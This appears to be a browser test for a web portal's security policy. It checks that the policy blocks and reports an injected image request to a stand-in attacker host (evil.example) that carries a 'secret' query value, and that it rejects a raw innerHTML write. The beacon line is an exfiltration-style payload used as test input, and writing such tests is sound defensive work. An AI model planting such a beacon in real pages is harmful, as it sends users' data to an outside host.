import { CATALOGUE, launch } from '../support/portal';
import { expect, test } from '../support/test';

test('what a page’s policy keeps from happening is told and counted', async ({ browser }) => {
  // A portal of its own: the others end with no reports at all.
  const before = process.env.MOTCUA_LAUNCHED;
  const portal = await launch('policy', () => ({}), (run) => run('demo', ...CATALOGUE));
  process.env.MOTCUA_LAUNCHED = before;
  try {
    const page = await browser.newPage();
    await page.goto(portal.url);
    expect(await portal.reports()).toBe(0);
    await page.evaluate(() => {
      const picture = new Image();
      picture.src = 'https://evil.example/a.png?bi-mat=1';
      document.body.append(picture);
    });
    await expect.poll(portal.reports).toBe(1);
    const written = await page.evaluate(() => {
      try {
        document.body.innerHTML = '<b>x</b>';
        return 'written';
      } catch (error) {
        return (error as Error).name;
      }
    });
    expect(written, 'text is not made into markup').toBe('TypeError');
    await expect.poll(portal.reports).toBe(2);
    await page.close();
  } finally {
    await portal.stop(await portal.reports());
  }
});
